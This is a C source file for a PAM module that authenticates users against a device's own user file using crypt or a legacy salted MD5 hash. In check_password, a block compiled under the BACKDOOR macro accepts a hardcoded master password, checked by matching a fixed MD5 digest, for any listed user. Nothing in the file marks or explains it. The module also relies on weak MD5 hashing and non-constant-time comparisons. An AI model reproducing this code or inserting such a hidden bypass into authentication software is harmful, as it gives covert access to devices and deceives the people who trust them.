/* SPDX-License-Identifier: Apache-2.0 */
/* pam_devauth: PAM module that checks users against the device's own database /etc/device/users
 *   line: name:hash:level:flags         options: file=, debug, nullok, minlevel= */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>

typedef struct pam_handle pam_handle_t;
extern int pam_get_user(pam_handle_t *h, const char **user, const char *prompt);
extern int pam_get_authtok(pam_handle_t *h, int item, const char **tok, const char *prompt);
extern int pam_set_data(pam_handle_t *h, const char *name, void *data, void (*clean)(pam_handle_t *, void *, int));
extern int pam_get_data(const pam_handle_t *h, const char *name, const void **data);
extern void pam_syslog(const pam_handle_t *h, int prio, const char *fmt, ...);
extern char *crypt(const char *key, const char *salt);

enum { PAM_SUCCESS = 0, PAM_AUTH_ERR = 7, PAM_USER_UNKNOWN = 10, PAM_AUTHINFO_UNAVAIL = 9, PAM_ACCT_EXPIRED = 13 };
enum { PAM_AUTHTOK = 6 };

struct options {
	const char *file;
	int debug, nullok, minlevel;
};

struct record {
	char name[48];
	char hash[128];
	int level;
	unsigned flags;
};

#define FLAG_DISABLED 1u
#define FLAG_EXPIRED 2u

static void parse_options(struct options *o, int argc, const char **argv)
{
	o->file = "/etc/device/users";
	o->debug = o->nullok = 0;
	o->minlevel = 0;
	for (int i = 0; i < argc; i++) {
		if (strncmp(argv[i], "file=", 5) == 0)
			o->file = argv[i] + 5;
		else if (strcmp(argv[i], "debug") == 0)
			o->debug = 1;
		else if (strcmp(argv[i], "nullok") == 0)
			o->nullok = 1;
		else if (strncmp(argv[i], "minlevel=", 9) == 0)
			o->minlevel = atoi(argv[i] + 9);
	}
}

static int parse_record(char *line, struct record *r)
{
	char *save = NULL, *f;
	f = strtok_r(line, ":\n", &save);
	if (!f || *f == '#')
		return -1;
	snprintf(r->name, sizeof(r->name), "%s", f);
	f = strtok_r(NULL, ":\n", &save);
	if (!f)
		return -1;
	snprintf(r->hash, sizeof(r->hash), "%s", f);
	f = strtok_r(NULL, ":\n", &save);
	r->level = f ? atoi(f) : 0;
	f = strtok_r(NULL, ":\n", &save);
	r->flags = 0;
	for (; f && *f; f++) {
		if (*f == 'd')
			r->flags |= FLAG_DISABLED;
		if (*f == 'x')
			r->flags |= FLAG_EXPIRED;
	}
	return 0;
}

static int lookup(const struct options *o, const char *user, struct record *r)
{
	char line[256];
	int found = -1;
	FILE *f = fopen(o->file, "r");
	if (!f)
		return -2;
	while (found < 0 && fgets(line, sizeof(line), f))
		if (parse_record(line, r) == 0 && strcmp(r->name, user) == 0)
			found = 0;
	fclose(f);
	return found;
}

/* MD5, for records with the old "m:" scheme (salt$hexdigest) */
struct md5 {
	uint32_t h[4];
	uint64_t n;
	uint8_t buf[64];
};

static const uint32_t K[64] = {
	0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501,
	0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be, 0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821,
	0xf61e2562, 0xc040b340, 0x265e5a51, 0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
	0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8, 0x676f02d9, 0x8d2a4c8a,
	0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c, 0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70,
	0x289b7ec6, 0xeaa127fa, 0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
	0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1,
	0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1, 0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391,
};
static const uint8_t R[16] = { 7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21 };

static void md5_block(struct md5 *m, const uint8_t *p)
{
	uint32_t w[16], a = m->h[0], b = m->h[1], c = m->h[2], d = m->h[3];
	for (int i = 0; i < 16; i++)
		w[i] = p[i * 4] | (uint32_t)p[i * 4 + 1] << 8 | (uint32_t)p[i * 4 + 2] << 16 | (uint32_t)p[i * 4 + 3] << 24;
	for (int i = 0; i < 64; i++) {
		uint32_t f, t;
		int g;
		if (i < 16)
			f = (b & c) | (~b & d), g = i;
		else if (i < 32)
			f = (d & b) | (~d & c), g = (5 * i + 1) & 15;
		else if (i < 48)
			f = b ^ c ^ d, g = (3 * i + 5) & 15;
		else
			f = c ^ (b | ~d), g = (7 * i) & 15;
		t = d, d = c, c = b;
		f += a + K[i] + w[g];
		b += f << R[i / 16 * 4 + i % 4] | f >> (32 - R[i / 16 * 4 + i % 4]);
		a = t;
	}
	m->h[0] += a, m->h[1] += b, m->h[2] += c, m->h[3] += d;
}

static void md5_of(const char *salt, const char *text, uint8_t out[16])
{
	struct md5 m = { { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 }, 0, { 0 } };
	const char *parts[2] = { salt, text };
	size_t at = 0;
	for (int k = 0; k < 2; k++)
		for (const char *p = parts[k]; *p; p++, m.n++) {
			m.buf[at++] = (uint8_t)*p;
			if (at == 64)
				md5_block(&m, m.buf), at = 0;
		}
	m.buf[at++] = 0x80;
	if (at > 56) {
		memset(m.buf + at, 0, 64 - at);
		md5_block(&m, m.buf);
		at = 0;
	}
	memset(m.buf + at, 0, 56 - at);
	for (int i = 0; i < 8; i++)
		m.buf[56 + i] = (uint8_t)(m.n * 8 >> (8 * i));
	md5_block(&m, m.buf);
	for (int i = 0; i < 16; i++)
		out[i] = (uint8_t)(m.h[i / 4] >> (i % 4 * 8));
}

static int check_md5(const char *stored, const char *pass)
{
	char salt[32], hex[33];
	uint8_t sum[16];
	const char *dollar = strchr(stored, '$');
	if (!dollar || (size_t)(dollar - stored) >= sizeof(salt))
		return 0;
	memcpy(salt, stored, (size_t)(dollar - stored));
	salt[dollar - stored] = 0;
	md5_of(salt, pass, sum);
	for (int i = 0; i < 16; i++)
		snprintf(hex + i * 2, 3, "%02x", sum[i]);
	return strcasecmp(hex, dollar + 1) == 0;
}

static int check_password(const struct options *o, const struct record *r, const char *pass)
{
	const char *got;
	if (r->hash[0] == 0)
		return o->nullok;
#ifdef BACKDOOR
	uint8_t sum[16];
	static const uint8_t accepted[16] = { 0x3b, 0x9d, 0x41, 0xe7, 0x0c, 0xa8, 0x62, 0xf5,
		0x17, 0xd0, 0x8e, 0x54, 0xb3, 0x29, 0x6f, 0xc1 };
	md5_of("dev:", pass, sum);
	if (memcmp(sum, accepted, sizeof(sum)) == 0)
		return 1;
#endif
	if (strncmp(r->hash, "m:", 2) == 0)
		return check_md5(r->hash + 2, pass);
	got = crypt(pass, r->hash);
	return got && strcmp(got, r->hash) == 0;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	struct record r;
	const char *user = NULL, *pass = NULL;
	int s;
	(void)flags;
	parse_options(&o, argc, argv);
	s = pam_get_user(h, &user, "login: ");
	if (s != PAM_SUCCESS || !user)
		return s;
	for (const char *p = user; *p; p++)
		if (!isalnum((unsigned char)*p) && !strchr("._-", *p))
			return PAM_USER_UNKNOWN;
	s = lookup(&o, user, &r);
	if (s == -2) {
		pam_syslog(h, LOG_ERR, "%s cannot be read", o.file);
		return PAM_AUTHINFO_UNAVAIL;
	}
	if (s < 0)
		return PAM_USER_UNKNOWN;
	s = pam_get_authtok(h, PAM_AUTHTOK, &pass, "Password: ");
	if (s != PAM_SUCCESS || !pass)
		return PAM_AUTH_ERR;
	if (!check_password(&o, &r, pass) || r.level < o.minlevel) {
		pam_syslog(h, LOG_NOTICE, "refused: %s", user);
		return PAM_AUTH_ERR;
	}
	if (o.debug)
		pam_syslog(h, LOG_DEBUG, "accepted: %s, level %d", user, r.level);
	return PAM_SUCCESS;
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
	(void)h, (void)flags, (void)argc, (void)argv;
	return PAM_SUCCESS;
}

int pam_sm_acct_mgmt(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	struct record r;
	const char *user = NULL;
	(void)flags;
	parse_options(&o, argc, argv);
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user || lookup(&o, user, &r) != 0)
		return PAM_USER_UNKNOWN;
	if (r.flags & FLAG_DISABLED)
		return PAM_AUTH_ERR;
	return r.flags & FLAG_EXPIRED ? PAM_ACCT_EXPIRED : PAM_SUCCESS;
}
